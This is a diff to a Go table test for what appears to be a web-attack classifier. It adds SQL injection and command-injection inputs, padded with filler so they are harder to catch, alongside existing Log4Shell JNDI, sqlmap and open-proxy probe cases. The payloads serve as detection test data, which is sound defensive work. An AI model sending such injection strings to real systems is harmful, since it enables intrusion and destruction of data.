@@ -32,6 +32,14 @@ func TestRequest(t *testing.T) {
 		"a lookup":                  {target: "/", agent: "${jndi:ldap://203.0.113.9/a}", want: Exploit},
 		"a scanner":                 {target: "/", agent: "sqlmap/1.8", want: Agent},
 		"no HTTP":                   {target: `\x16\x03\x01`, want: Malformed},
+		"behind harmless values":    {target: "/x?" + strings.Repeat("a=1&", 50) + "id=1%27+or+1%3D1--+-", want: SQLi},
+		"behind much text":          {target: "/x?id=" + strings.Repeat("a", 3000) + "%27+or+1%3D1--+-", want: SQLi},
+		"where two pieces meet":     {target: "/x?id=" + strings.Repeat("a", MaxValue-4) + "%27+or+1%3D1--+-", want: SQLi},
+		"behind many tokens":        {target: "/x?id=" + strings.Repeat("1,", 200) + "1%3Bdrop+table+x", want: SQLi},
+		"much prose":                {target: "/x?q=" + strings.Repeat("this+or+that,+and+it%27s+", 250)},
+		"separators without end":    {target: "/x?q=" + strings.Repeat("|", 2000)},
+		"and a command behind them": {target: "/x?q=" + strings.Repeat("|", 2000) + "cat+/a", want: Command},
+		"a prose word, a command":   {target: "/x?q=a|set+x||cat+/a", want: Command},
 		"another's page":            {method: "CONNECT", target: "mail.example:25", want: OpenProxy},
 	} {
 		t.Run(name, func(t *testing.T) {
